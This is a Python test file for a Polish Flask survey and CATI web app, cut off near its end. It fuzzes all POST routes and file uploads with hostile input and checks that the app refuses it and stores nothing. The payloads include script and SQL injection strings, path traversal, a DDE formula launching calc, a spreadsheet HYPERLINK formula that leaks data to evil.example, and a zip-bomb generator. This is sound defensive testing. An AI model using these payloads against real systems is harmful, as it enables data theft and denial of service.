"""Hostile input on every POST route, as every kind of visitor (issue #7).

The POST routes are read from ``app.url_map`` when the test runs, so a route added later is
covered without touching this file (and the test fails if it cannot build the route's URL).
A "world" of real objects gives the URLs something to point at: users of every role, open,
closed and draft fieldworks, a complete and an in-progress response, a CATI case claimed
with a call under way, an appointment. Hypothesis then posts bodies made of the real forms'
field names and random keys, with hostile values, in several encodings and with the CSRF
token valid, missing, wrong or in a header, as anonymous, a respondent, and each role.

Every request must be answered without a 5xx. A refused request (4xx, a page shown again
with its errors, or a redirect carrying an error message) must leave every table exactly as
it was. After an accepted request the database is put back as it was, so each example starts
from the same world (reproducible, and shrinkable).

``HYPOTHESIS_PROFILE=long`` runs many more, random examples (for a local soak).
"""

from __future__ import annotations

import functools
import io
import json
import os
import re
import secrets
import time
import urllib.parse
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from flask import Flask, url_for
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from sqlalchemy import create_engine, func, select, text
from sqlalchemy.engine import Engine
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from app.cati.queue import claim_next
from app.cati.services import AppointmentRequest, finish_call, start_call
from app.models.base import Base
from app.models.calling import outcomes_of
from app.models.cati import Case
from app.models.fieldwork import Fieldwork, FieldworkInterviewer, Response, SampleUnit
from app.models.surveys import flow_of
from app.models.users import Role
from app.platform.security import access_rule
from tests.support import TEST_PASSWORD, page_text, unit_token
from tests.support.respondent import SCENARIOS, Respondent

PROFILE = os.environ.get("HYPOTHESIS_PROFILE", "ci")
# (examples for an identity the route admits, examples for one it refuses)
EXAMPLES = {"ci": (10, 2), "long": (150, 15)}.get(PROFILE, (10, 2))
DERANDOMIZE = PROFILE != "long"

ANON = "anonymous"
RESPONDENT = "respondent"
IDENTITIES = [ANON, RESPONDENT, *(role.value for role in Role)]

# Endpoints whose 200 answer means "done" (a page instead of a redirect).
ACCEPTED_WITH_200 = {
    "admin.create_user",  # the page showing the new one-time password
    "admin.reset_password",
    "cati.next_case",  # "nothing to call now" (the queue may release stale claims on the way)
}
# A refused login counts the failure (for the account and the client's address): that is
# the throttle working, not a stored change. "*": any change to that table's rows.
ALLOWED_ON_REFUSAL: dict[str, dict[str, set[str]]] = {
    "auth.login": {"user_account": {"failed_logins", "locked_until"}, "login_throttle": {"*"}},
}
AUDIT_TABLE = "audit_event"  # append-only (the database refuses DELETE): never restored
# ... and it is recorded in the audit log: the one row a refused request may add.
EVENTS_ON_REFUSAL: dict[str, set[str]] = {"auth.login": {"auth.login_failed"}}
# a scoped account's reach for another subregion's object is refused and logged, anywhere
LOGGED_ON_EVERY_REFUSAL = {"scope.denied"}

UNITS = [
    ("K-01", "Klub Integracji Społecznej w Żorach", {"entity_type": "KIS"}),
    ("C-02", "Centrum Integracji Społecznej w Gliwicach", {"entity_type": "CIS"}),
    ("C-03", "Centrum Integracji Społecznej w Rybniku", {"entity_type": "CIS"}),
    ("C-04", "Centrum Integracji Społecznej w Bytomiu", {"entity_type": "CIS"}),
]
HUGE_ID = 2**63  # past a 64-bit integer
HOSTILE_TEXT = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\u202eevil\u202c",  # right-to-left override
    "\u200f\u05e9\u05dc\u05d5\u05dd",  # RTL mark and Hebrew
    "Zażółć gęślą jaźń",
    "😀" * 50,
    "\ufeff",
    "\r\n\r\n",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
    "%00",
    "-1",
    "0",
    "1e309",
    "NaN",
    "-inf",
    "1,5",
    "9" * 5000,  # past Python's int() digit limit
    str(2**63),
    str(-(2**63) - 1),
    str(10**30),
    "01.01.0001",
    "31.12.9999",
    "31.02.2026",
    "00:00",
    "23:59",
    "24:00",
    "open",
    "close",
    "exclude",
    "include",
    "next",
    "back",
    "later",
    "submit",
    "breakoff",
    "y",
    "true",
    "x" * 1024 * 1024,  # 1 MB
]


# --- the world --------------------------------------------------------------------------------


@dataclass
class World:
    app: Flask
    engine: Engine  # a plain engine of the same database, for snapshots and restores
    cookies: dict[str, str | None]
    user_ids: dict[str, int]
    url_values: dict[str, list[Any]]
    names: list[str]
    values: list[str]
    broken_pages: list[tuple[str, str, int]] = field(default_factory=list)
    baseline: dict = field(default_factory=dict)
    typed_baseline: dict = field(default_factory=dict)
    sent: int = 0  # requests sent, refused, restores made: the figures printed at the end
    refused: int = 0
    restores: int = 0
    state: dict = field(default_factory=dict)


def _session_cookie(client) -> str:
    cookie = client.get_cookie("session")
    assert cookie is not None
    return cookie.value


def _login(app: Flask, username: str) -> str:
    client = app.test_client()
    response = client.post("/login", data={"username": username, "password": TEST_PASSWORD})
    assert response.status_code == 302, page_text(response)
    return _session_cookie(client)


def _client(app: Flask, cookie: str | None):
    client = app.test_client()
    if cookie is not None:
        client.set_cookie("session", cookie)
    return client


NAME = re.compile(r'\bname="([^"]+)"')
VALUE = re.compile(r'\bvalue="([^"]*)"')


@pytest.fixture
def world(app: Flask, make_fieldwork, make_user, clock) -> Iterator[World]:
    database = app.extensions["ankieta.db"]
    user_ids = {role.value: make_user(f"{role.value}1", role).id for role in Role}
    target = make_user("target", Role.INTERVIEWER).id
    open_fw = make_fieldwork("monitoring_cis_kis", units=UNITS, open_link=True)
    closed_fw = make_fieldwork(
        "monitoring_cis_kis", units=[("Z-01", "CIS w Zabrzu", {})], state="closed", title="Zamk"
    )
    draft_fw = make_fieldwork("jst_gmina", units=[("G-01", "Gmina Biała", {})], state="draft")

    # a complete response (K-01) and one in progress (C-02), each from its own browser
    answers = SCENARIOS["monitoring_cis_kis"].answers
    Respondent(app.test_client(), unit_token(app, open_fw, "K-01")).walk(answers)
    respondent = Respondent(app.test_client(), unit_token(app, open_fw, "C-02"))
    first_page = respondent.begin()
    second_page = respondent.next(first_page, {**answers, "a1": "cis"})
    assert second_page is not None

    # CATI: the interviewer holds a case with a call under way; another case has an appointment
    with database.session() as session:
        fieldwork = session.get(Fieldwork, open_fw)
        for member in (user_ids["interviewer"], target):  # the fieldwork's calling team
            session.add(FieldworkInterviewer(fieldwork_id=open_fw, user_id=member))
        session.flush()
        claim = claim_next(session, fieldwork, user_ids["interviewer"], clock())
        assert claim.case is not None
        claimed = claim.case
        start_call(
            session, claimed, user_ids["interviewer"], claimed.sample_unit.phones[0], clock()
        )
        other = session.scalar(
            select(Case)
            .join(SampleUnit, Case.sample_unit_id == SampleUnit.id)
            .where(Case.fieldwork_id == open_fw, Case.id != claimed.id)
            .where(SampleUnit.external_id.in_(["C-03", "C-04"]))
            .order_by(Case.id)
            .limit(1)
        )
        outcome = next(o for o in outcomes_of(session, fieldwork) if o.code == "appointment")
        call = start_call(session, other, target, other.sample_unit.phones[0], clock())
        finish_call(
            session,
            other,
            call,
            outcome,
            interviewer_id=target,
            note="oddzwonić",
            now=clock() + timedelta(minutes=3),
            appointment=AppointmentRequest(clock() + timedelta(days=1), None, for_me=False),
        )
        closed_case = session.scalar(select(Case.id).where(Case.fieldwork_id == closed_fw))
        responses = {
            r.status: r.id
            for r in session.scalars(select(Response).where(Response.fieldwork_id == open_fw))
        }
        claimed_id, other_id = claimed.id, other.id
        open_link = fieldwork.open_link_token
        test_links = [
            session.get(Fieldwork, fw).test_link_token for fw in (open_fw, closed_fw, draft_fw)
        ]
        survey_id = fieldwork.survey_id
        phone_pages = [p.id for p in flow_of(fieldwork.survey_version).pages("phone")[:2]]
        # a personal API token of the analyst's, for the revoke route
        from app.models.users import User
        from app.tokens.services import create_token

        api_token = create_token(session, session.get(User, user_ids["analyst"]), now=clock())
        api_token_id = api_token.token.id
    assert set(responses) == {"complete", "in_progress"}

    cookies: dict[str, str | None] = {ANON: None, RESPONDENT: _session_cookie(respondent.client)}
    for role in Role:
        cookies[role.value] = _login(app, f"{role.value}1")

    # the field names and values of the real forms, read from the pages that show them
    pages = [
        (ANON, "/login"),
        ("admin", "/password"),
        ("admin", "/admin/users"),
        ("admin", f"/admin/users/{target}"),
        ("admin", "/surveys/"),
        ("admin", "/fieldwork/"),
        ("admin", f"/fieldwork/{open_fw}"),
        ("admin", f"/fieldwork/{open_fw}/responses/{responses['complete']}"),
        ("admin", f"/fieldwork/{open_fw}/responses/{responses['complete']}/edit"),
        ("admin", f"/surveys/{survey_id}/versions/1/preview/web"),
        ("admin", "/supervise/productivity"),
        ("admin", f"/supervise/{open_fw}"),
        ("admin", f"/supervise/{open_fw}/case/{other_id}"),
        ("interviewer", "/cati/"),
        ("analyst", "/account/api-tokens/"),
        ("interviewer", f"/cati/case/{claimed_id}"),
        ("interviewer", f"/cati/case/{claimed_id}/interview"),
        (RESPONDENT, second_page.path),
        (RESPONDENT, first_page.path),
    ]
    names: set[str] = {"csrf_token", "revision", "action", "lang", "next"}
    values: set[str] = {str(user_ids[r]) for r in user_ids} | {str(target)}
    broken: list[tuple[str, str, int]] = []
    for who, path in pages:
        client = _client(app, cookies[who])
        response = client.get(path, follow_redirects=True)
        if response.status_code != 200:
            broken.append((who, path, response.status_code))
            continue
        body = response.get_data(as_text=True)
        names.update(NAME.findall(body))
        values.update(v for v in VALUE.findall(body) if len(v) < 200)
    values.discard("")

    web_pages = [second_page.page_id, first_page.page_id]
    url_values: dict[str, list[Any]] = {
        "fieldwork_id": [open_fw, closed_fw, draft_fw, 0, -1, 999_999, HUGE_ID, 10**30],
        "case_id": [claimed_id, other_id, closed_case, 0, 999_999, HUGE_ID],
        "user_id": [target, user_ids["admin"], user_ids["interviewer"], 0, HUGE_ID],
        "response_id": [responses["complete"], responses["in_progress"], 0, HUGE_ID],
        "token": [
            respondent.token,
            unit_token(app, open_fw, "K-01"),
            unit_token(app, closed_fw, "Z-01"),
            unit_token(app, draft_fw, "G-01"),
            open_link,
            *test_links,
            secrets.token_urlsafe(24),
            "A" * 32,
            "x" * 3000,
            "żółć\u202e",
            "..",
        ],
        "page_id": [*web_pages, *phone_pages, "zzz", "x" * 3000, "ą\u202e", ".."],
        "survey_id": [survey_id, 0, 999_999, HUGE_ID],
        "number": [1, 2, 0, HUGE_ID],
        "mode": ["web", "phone", "fax", "x" * 3000, ".."],
        "key": [secrets.token_urlsafe(16), "A" * 32, "x" * 3000, "żółć\u202e", ".."],
        "token_id": [api_token_id, 0, 999_999, HUGE_ID],
    }
    plain = create_engine(database.url)
    built = World(app, plain, cookies, user_ids, url_values, sorted(names), sorted(values), broken)
    built.baseline = snapshot(built)
    built.typed_baseline = typed_rows(built)
    built.state = built.baseline
    yield built
    plain.dispose()


# --- snapshots and restores ---------------------------------------------------------------------


def _tables():
    return Base.metadata.sorted_tables


def snapshot(world: World) -> dict[str, dict[tuple, dict]]:
    """Every row of every table as the driver gives it: table -> primary key -> row.

    Raw SQL (no type processing) keeps it fast enough to take after every request.
    """
    result: dict[str, dict[tuple, dict]] = {}
    with world.engine.connect() as connection:
        for table in _tables():
            pk = [c.name for c in table.primary_key.columns]
            cursor = connection.exec_driver_sql(
                f'SELECT * FROM "{table.name}" ORDER BY '  # noqa: S608 - names from the models
                + ", ".join(f'"{name}"' for name in pk)
            )
            columns = list(cursor.keys())
            at = [columns.index(name) for name in pk]
            result[table.name] = {
                tuple(row[i] for i in at): dict(zip(columns, row, strict=True))
                for row in cursor.fetchall()
            }
    return result


def typed_rows(world: World) -> dict[str, dict[tuple, dict]]:
    """Every row, read through the tables' types (what an INSERT takes back)."""
    result: dict[str, dict[tuple, dict]] = {}
    with world.engine.connect() as connection:
        for table in _tables():
            pk = list(table.primary_key.columns)
            rows = connection.execute(table.select().order_by(*pk)).mappings().all()
            result[table.name] = {tuple(row[c.name] for c in pk): dict(row) for row in rows}
    return result


def differences(before: dict, after: dict, ignore: dict[str, set[str]] | None = None) -> list:
    """What changed between two snapshots (ignoring some columns), as readable tuples."""
    ignore = ignore or {}
    changed = []
    for table, rows in after.items():
        old = before.get(table, {})
        skip = ignore.get(table, set())
        if "*" in skip:
            continue
        for key in rows.keys() - old.keys():
            changed.append((table, "added", key))
        for key in old.keys() - rows.keys():
            changed.append((table, "deleted", key))
        for key in rows.keys() & old.keys():
            columns = {c for c in rows[key] if c not in skip and rows[key][c] != old[key].get(c)}
            if columns:
                changed.append((table, "changed", key, sorted(columns)))
    return changed


def restore(world: World) -> None:
    """Put every table (but the append-only audit log) back to the baseline."""
    current = typed_rows(world)
    with world.engine.begin() as connection:
        if world.engine.dialect.name == "postgresql":
            connection.execute(text("SET LOCAL session_replication_role = replica"))
        for table in reversed(_tables()):
            if table.name == AUDIT_TABLE:
                continue
            pk = list(table.primary_key.columns)
            for key in current[table.name].keys() - world.typed_baseline[table.name].keys():
                connection.execute(
                    table.delete().where(*(c == v for c, v in zip(pk, key, strict=True)))
                )
        for table in _tables():
            if table.name == AUDIT_TABLE:
                continue
            pk = list(table.primary_key.columns)
            wanted, now_rows = world.typed_baseline[table.name], current[table.name]
            for key, row in wanted.items():
                if key not in now_rows:
                    connection.execute(table.insert().values(**row))
                elif now_rows[key] != row:
                    connection.execute(
                        table.update()
                        .where(*(c == v for c, v in zip(pk, key, strict=True)))
                        .values(**row)
                    )
    world.state = snapshot(world)
    left = differences(world.baseline, world.state)
    assert all(change[0] == AUDIT_TABLE for change in left), left


# --- requests -----------------------------------------------------------------------------------


def post_endpoints(app: Flask) -> list:
    """Every rule that takes a POST, sorted by endpoint."""
    rules = [rule for rule in app.url_map.iter_rules() if "POST" in (rule.methods or ())]
    return sorted(rules, key=lambda rule: (rule.endpoint, rule.rule))


def build_url(world: World, endpoint: str, arguments: dict[str, Any]) -> str:
    with world.app.test_request_context():
        return url_for(endpoint, **arguments)


@dataclass
class HostileRequest:
    identity: str
    url: str
    pairs: list[tuple[str, str]]
    files: list[tuple[str, bytes, str]]
    csrf: str  # valid | missing | wrong | header
    encoding: str  # urlencoded | multipart | invalid-utf8 | json

    def __repr__(self) -> str:  # the 1 MB values would drown the report
        def short(value: str) -> str:
            return value if len(value) < 80 else f"{value[:40]!r}...({len(value)} chars)"

        pairs = [(short(k), short(v)) for k, v in self.pairs]
        files = [(k, f"<{len(b)} bytes>", n) for k, b, n in self.files]
        return (
            f"HostileRequest({self.identity}, {short(self.url)}, csrf={self.csrf}, "
            f"{self.encoding}, pairs={pairs}, files={files})"
        )


def hostile_requests(world: World, rule, identity: str) -> st.SearchStrategy[HostileRequest]:
    keys = st.one_of(st.sampled_from(world.names), st.text(max_size=12), st.just("csrf_token"))
    values = st.one_of(
        st.sampled_from(world.values),
        st.sampled_from(HOSTILE_TEXT),
        st.text(max_size=30),
        st.integers(min_value=-(2**70), max_value=2**70).map(str),
    )
    pairs = st.lists(st.tuples(keys, st.lists(values, min_size=1, max_size=3)), max_size=8).map(
        lambda groups: [(k, v) for k, vs in groups for v in vs]
    )
    files = st.lists(
        st.tuples(
            st.sampled_from([*world.names, "sample", "definition"]),
            st.sampled_from(
                [b"", b"PK\x03\x04garbage", b"external_id;name\nX-1;Nowa\n", b"\xff\xfe\x00" * 50]
            ),
            st.sampled_from(["proba.csv", "proba.xlsx", "ankieta.yaml", "virus.exe", ""]),
        ),
        max_size=2,
    )
    arguments = {name: st.sampled_from(world.url_values[name]) for name in sorted(rule.arguments)}

    @st.composite
    def build(draw) -> HostileRequest:
        chosen = {name: draw(strategy) for name, strategy in arguments.items()}
        encoding = draw(st.sampled_from(["urlencoded", "multipart", "invalid-utf8", "json"]))
        return HostileRequest(
            identity=identity,
            url=build_url(world, rule.endpoint, chosen),
            pairs=draw(pairs),
            files=draw(files) if encoding == "multipart" else [],
            csrf=draw(st.sampled_from(["valid", "valid", "valid", "missing", "wrong", "header"])),
            encoding=encoding,
        )

    return build()


def send(world: World, request: HostileRequest):
    client = _client(world.app, world.cookies[request.identity])
    pairs = list(request.pairs)
    headers = {}
    if request.csrf in ("valid", "header"):
        token = client.csrf_token()
        if request.csrf == "valid":
            pairs.insert(0, ("csrf_token", token))
        else:
            headers["X-CSRFToken"] = token
    elif request.csrf == "wrong":
        pairs.insert(0, ("csrf_token", "forged." + secrets.token_hex(8)))
    kwargs: dict[str, Any] = {"headers": headers, "csrf": False}
    if request.encoding == "multipart":
        data = MultiDict(pairs)
        for name, content, filename in request.files:
            data.add(name, (io.BytesIO(content), filename))
        kwargs.update(data=data, content_type="multipart/form-data")
    elif request.encoding == "json":
        kwargs.update(data=json.dumps(dict(pairs)), content_type="application/json")
    else:
        body = urllib.parse.urlencode(pairs).encode()
        if request.encoding == "invalid-utf8":
            body += b"&a1=\xff\xfe\xc3&note=%FF%FE"
        kwargs.update(data=body, content_type="application/x-www-form-urlencoded")
    response = client.post(request.url, **kwargs)
    runner = world.app.extensions.get("ankieta.export_runner")
    if runner is not None:  # a file asked for is built in the background: let it finish
        runner.wait()
    return client, response


def _flash_categories(client) -> set[str]:
    with client.session_transaction() as session:
        return {category for category, _ in session.get("_flashes", [])}


def was_refused(endpoint: str, response, client) -> bool:
    code = response.status_code
    if code >= 400:
        return True
    if code == 200:
        if endpoint in ACCEPTED_WITH_200:
            return False
        if endpoint == "respond.submit_page":  # "save and finish later" answers 200 too
            return 'id="questionnaire"' in response.get_data(as_text=True)
        return True  # the form shown again with its errors
    return "error" in _flash_categories(client)


def check(world: World, endpoint: str, request: HostileRequest) -> None:
    after = None
    try:
        client, response = send(world, request)
        body = response.get_data(as_text=True)
        assert response.status_code < 500, (response.status_code, page_text(response)[:300])
        assert "Traceback" not in body
        refused = was_refused(endpoint, response, client)
        world.sent += 1
        world.refused += refused
        after = snapshot(world)
        changes = differences(world.state, after, ALLOWED_ON_REFUSAL.get(endpoint))
        if refused:
            allowed = EVENTS_ON_REFUSAL.get(endpoint, set()) | LOGGED_ON_EVERY_REFUSAL
            changes = [
                change
                for change in changes
                if not (
                    change[:2] == (AUDIT_TABLE, "added")
                    and _audit_action(after, change[2]) in allowed
                )
            ]
            assert changes == [], (response.status_code, changes[:10])
    finally:  # the next example starts from the same world, whatever happened to this one
        if after is None:
            after = snapshot(world)
        if after != world.state:
            world.restores += 1
            restore(world)


def _audit_action(rows: dict[str, dict[tuple, dict]], key: tuple) -> str:
    return str(rows[AUDIT_TABLE][key]["action"])


def _settings(examples: int):
    return settings(
        max_examples=examples,
        derandomize=DERANDOMIZE,
        database=None,
        deadline=None,
        phases=[Phase.explicit, Phase.generate, Phase.shrink]
        if PROFILE == "long"
        else [Phase.explicit, Phase.generate],
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
        print_blob=False,
    )


def _property(world: World, rule, identity: str, examples: int) -> Callable[[], None]:
    """The Hypothesis test of one route as one identity."""

    @_settings(examples)
    @given(request=hostile_requests(world, rule, identity))
    def run(request: HostileRequest) -> None:
        check(world, rule.endpoint, request)

    return run


# --- the tests ----------------------------------------------------------------------------------


def check_urls(world: World) -> None:
    """Every POST route's URL can be built from the world's values."""
    rules = post_endpoints(world.app)
    assert len(rules) >= 25, [r.endpoint for r in rules]
    unknown = {
        (rule.endpoint, name)
        for rule in rules
        for name in rule.arguments
        if name not in world.url_values
    }
    assert unknown == set(), "add URL values for these route arguments to the world fixture"
    for rule in rules:
        for values in zip(*(world.url_values[a] for a in sorted(rule.arguments)), strict=False):
            assert build_url(
                world, rule.endpoint, dict(zip(sorted(rule.arguments), values, strict=True))
            )


def test_hostile_posts_never_fail_and_refused_ones_store_nothing(world: World) -> None:
    check_urls(world)
    assert snapshot(world) == world.baseline
    failures = [
        f"GET {path} as {who} (a page whose form is read): {code}"
        for who, path, code in world.broken_pages
    ]
    # a real account, the right token, a wrong password: refused, counted and logged
    failed_login = HostileRequest(
        ANON,
        build_url(world, "auth.login", {}),
        [("username", "analyst1"), ("password", "not-the-password")],
        [],
        "valid",
        "urlencoded",
    )
    before = world.sent, world.refused
    check(world, "auth.login", failed_login)
    assert (world.sent, world.refused) == (before[0] + 1, before[1] + 1)
    started = time.monotonic()
    for rule in post_endpoints(world.app):
        access = access_rule(world.app, rule.endpoint)
        assert access is not None, rule.endpoint
        for identity in IDENTITIES:
            role = None if identity in (ANON, RESPONDENT) else Role(identity)
            examples = EXAMPLES[0] if access.allows(role) else EXAMPLES[1]

            try:
                _property(world, rule, identity, examples)()
            except Exception as exc:  # noqa: BLE001 - gather every route's failure, then fail
                failures.append(f"{rule.endpoint} as {identity}: {exc!r}"[:2000])
    elapsed = time.monotonic() - started
    print(
        f"hostile posts: {len(post_endpoints(world.app))} endpoints, {world.sent} requests "
        f"({world.refused} refused, {world.restores} restores) in {elapsed:.1f} s"
    )
    assert failures == [], "\n\n".join(failures)


# --- uploads --------------------------------------------------------------------------------------


@functools.cache
def zip_bomb() -> bytes:
    """A ~1 MB ".xlsx": a zip whose worksheet unpacks to 1 GB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with package.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as entry:
            chunk = b"\0" * (1 << 20)
            for _ in range(1024):
                entry.write(chunk)
    return buffer.getvalue()


def workbook(rows: list[list[Any]], *, as_text: bool = False) -> bytes:
    """An .xlsx of ``rows``; with ``as_text`` cells starting with = are stored as text."""
    book = openpyxl.Workbook()
    sheet = book.active
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(row=r, column=c, value=value)
            if as_text and isinstance(value, str) and value.startswith("="):
                cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64
HEADER = ["external_id", "name", "phone"]
SAMPLE_CSV_PL = "external_id;name;phone\nN-1;Spółdzielnia Socjalna „Żuraw”;032 111 22 33\n"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Kliknij")'
DDE = "=cmd|' /C calc'!A0"

# (name, route, file name, content, expected): expected is "413", a phrase the page must
# show (in English) when the file is refused, or "accepted" (the page redirects)
UPLOADS: list[tuple[str, str, str, Callable[[], bytes], str]] = [
    ("zip bomb", "sample", "proba.xlsx", zip_bomb, "would unpack to more than"),
    ("zip bomb", "definition", "ankieta.xlsx", zip_bomb, "would unpack to more than"),
    ("21 MB", "sample", "proba.csv", lambda: b"a;b\n" + b"x" * (21 << 20), "413"),
    ("6 MB", "definition", "ankieta.yaml", lambda: b"#" * (6 << 20), "larger than 5 MB"),
    ("exe", "sample", "virus.exe", lambda: EXE, "Only .xlsx and .csv files."),
    ("exe", "definition", "virus.exe", lambda: EXE, "Only .yaml, .yml, .xlsx, .csv, .xml and .zip"),
    ("exe as xlsx", "sample", "proba.xlsx", lambda: EXE, "this is not an .xlsx workbook"),
    ("png as xlsx", "sample", "proba.xlsx", lambda: PNG, "this is not an .xlsx workbook"),
    ("png as xlsx", "definition", "ankieta.xlsx", lambda: PNG, "not an .xlsx workbook"),
    (
        "utf-16 without BOM",
        "sample",
        "proba.csv",
        lambda: SAMPLE_CSV_PL.encode("utf-16-le"),
        "the file holds binary data, not CSV text",
    ),
    (
        "formulas",
        "sample",
        "proba.xlsx",
        lambda: workbook([HEADER, ["F-1", HYPERLINK, "032 111 22 33"], ["F-2", DDE, "1"]]),
        "row 2, column name: the formula here has no saved result",
    ),
    (
        "100k columns",
        "sample",
        "proba.csv",
        lambda: (";".join(f"k{i}" for i in range(100_000)) + "\n" + "1;" * 99_999 + "1\n").encode(),
        "there is data in column 100000; a sample has at most 200 columns",
    ),
]


def _upload(client, route: str, url: str, filename: str, content: bytes):
    """A multipart post built in memory (the test client would spool big ones to a file)."""
    upload = FileStorage(io.BytesIO(content), filename=filename, name=route)
    boundary, body = encode_multipart({"csrf_token": client.csrf_token(), route: upload})
    return client.post(
        url, data=body, content_type=f"multipart/form-data; boundary={boundary}", csrf=False
    )


def _english_analyst(app: Flask, make_user):
    make_user("uploader", Role.ANALYST)
    client = app.test_client()
    assert client.post("/login", data={"username": "uploader", "password": TEST_PASSWORD})
    client.post("/language", data={"lang": "en"})
    return client


@pytest.mark.parametrize("case", UPLOADS, ids=[f"{u[1]}-{u[0]}".replace(" ", "_") for u in UPLOADS])
def test_hostile_uploads_are_refused_clearly_and_store_nothing(
    app, make_fieldwork, make_user, case
):
    name, route, filename, content, expected = case
    fieldwork_id = make_fieldwork("jst_gmina", units=[("G-01", "Gmina Biała", {})], state="draft")
    client = _english_analyst(app, make_user)
    url = f"/fieldwork/{fieldwork_id}/sample" if route == "sample" else "/surveys/"
    holder = World(app, create_engine(app.extensions["ankieta.db"].url), {}, {}, {}, [], [])
    before = snapshot(holder)
    started = time.monotonic()
    response = _upload(client, route, url, filename, content())
    elapsed = time.monotonic() - started
    text = page_text(response)
    print(name, route, response.status_code, f"{elapsed:.2f}s", text[-700:])
    after = snapshot(holder)
    holder.engine.dispose()
    assert differences(before, after) == []
    assert elapsed < 10, f"{name}: {elapsed:.1f} s"
    if expected == "413":
        assert response.status_code == 413
        assert "larger than the server accepts" in text
    else:
        assert response.status_code == 400
        assert expected in text


def test_utf16_csv_and_formula_text_are_accepted_as_plain_text(app, make_fieldwork, make_user):
    fieldwork_id = make_fieldwork("jst_gmina", units=[("G-01", "Gmina Biała", {})], state="draft")
    client = _english_analyst(app, make_user)
    url = f"/fieldwork/{fieldwork_id}/sample"
    rows = SAMPLE_CSV_PL + f'N-2;"{HYPERLINK.replace(chr(34), chr(34) * 2)}";032 111 22 44\n'
    response = _upload(
        client, "sample", url, "proba.csv", "\ufeff".encode("utf-16") + rows.encode("utf-16-le")
    )
    assert response.status_code == 302, page_text(response)
    book = workbook([HEADER, ["N-3", DDE, "032 111 22 55"]], as_text=True)
    response = _upload(client, "sample", url, "proba.xlsx", book)
    assert response.status_code == 302, page_text(response)
    with app.extensions["ankieta.db"].session() as session:
        names = dict(
            session.execute(
                select(SampleUnit.external_id, SampleUnit.name).where(
                    SampleUnit.fieldwork_id == fieldwork_id
                )
            ).all()
        )
    assert names == {
        "G-01": "Gmina Biała",
        "N-1": "Spółdzielnia Socjalna „Żuraw”",
        "N-2": HYPERLINK,
        "N-3": DDE,
    }


# --- regressions found by the property test -------------------------------------------------------


def test_an_id_past_64_bits_in_the_address_is_404_not_500(client, login_as):
    login_as(Role.ADMIN)
    huge = 2**63
    assert (
        client.post(f"/supervise/{huge}/claim-timeout", data={"claim_timeout": "30"}).status_code
        == 404
    )
    assert client.get(f"/fieldwork/{huge}").status_code == 404
    assert client.get(f"/admin/users/{2**31}").status_code == 404


def _phone_case_of_web_respondent(app, make_fieldwork, make_user, clock):
    """An interviewer holding the case of an institution that began online (page a saved)."""
    fieldwork_id = make_fieldwork("monitoring_cis_kis", units=UNITS[:2])
    respondent = Respondent(app.test_client(), unit_token(app, fieldwork_id, "C-02"))
    respondent.next(respondent.begin(), {**SCENARIOS["monitoring_cis_kis"].answers, "a1": "cis"})
    interviewer = make_user("dzwoni", Role.INTERVIEWER)
    with app.extensions["ankieta.db"].session() as session:
        session.add(FieldworkInterviewer(fieldwork_id=fieldwork_id, user_id=interviewer.id))
        case = session.scalar(
            select(Case)
            .join(SampleUnit, Case.sample_unit_id == SampleUnit.id)
            .where(SampleUnit.external_id == "C-02")
        )
        case.claimed_by_id, case.claimed_at = interviewer.id, clock()
        start_call(session, case, interviewer.id, case.sample_unit.phones[0], clock())
        return case.id, fieldwork_id


def test_a_phone_interview_continues_an_answer_begun_online(app, make_fieldwork, make_user, clock):
    case_id, _ = _phone_case_of_web_respondent(app, make_fieldwork, make_user, clock)
    client = app.test_client()
    client.post("/login", data={"username": "dzwoni", "password": TEST_PASSWORD})
    started = client.get(f"/cati/case/{case_id}/interview")
    assert started.status_code == 302, page_text(started)  # last_page "a" is a web page
    assert client.get(started.location).status_code == 200


def test_posting_an_interview_page_never_starts_the_interview(
    app, make_fieldwork, make_user, clock
):
    fieldwork_id = make_fieldwork("monitoring_cis_kis", units=UNITS[2:3])
    make_user("koord", Role.SUPERVISOR)
    with app.extensions["ankieta.db"].session() as session:
        case_id = session.scalar(select(Case.id).where(Case.fieldwork_id == fieldwork_id))
    client = app.test_client()
    client.post("/login", data={"username": "koord", "password": TEST_PASSWORD})
    response = client.post(f"/cati/case/{case_id}/interview/a", data={"action": "next"})
    assert response.status_code == 302 and response.location.endswith(
        f"/cati/case/{case_id}/interview"
    )
    with app.extensions["ankieta.db"].session() as session:
        assert session.scalar(select(func.count()).select_from(Response)) == 0


def test_an_undecodable_or_oversized_form_body_is_a_clear_refusal(app, client, login_as):
    login_as(Role.ANALYST)
    token = client.csrf_token()
    invalid = client.post(
        "/fieldwork/",
        data=f"csrf_token={token}&title=".encode() + b"\xff\xfe",
        content_type="application/x-www-form-urlencoded",
    )
    assert invalid.status_code == 400
    assert "Nieprawidłowe żądanie" in page_text(invalid)  # not "the form has expired"
    huge = client.post(
        "/fieldwork/",
        data=f"csrf_token={token}&title=".encode() + b"x" * (5 << 20),
        content_type="application/x-www-form-urlencoded",
    )
    assert huge.status_code == 413
    assert "Wysłany plik lub formularz jest większy" in page_text(huge)
    with app.extensions["ankieta.db"].session() as session:
        assert session.scalar(select(func.count()).select_from(Fieldwork)) == 0


# --- control characters: refused once, at the request boundary, on both databases ----------


def _nul_requests(world: World) -> list[tuple[str, str, str, dict[str, str]]]:
    """(identity, method, url, form) for the fields where NUL gave a 500 on PostgreSQL."""
    open_fw, claimed, other = (
        world.url_values["fieldwork_id"][0],
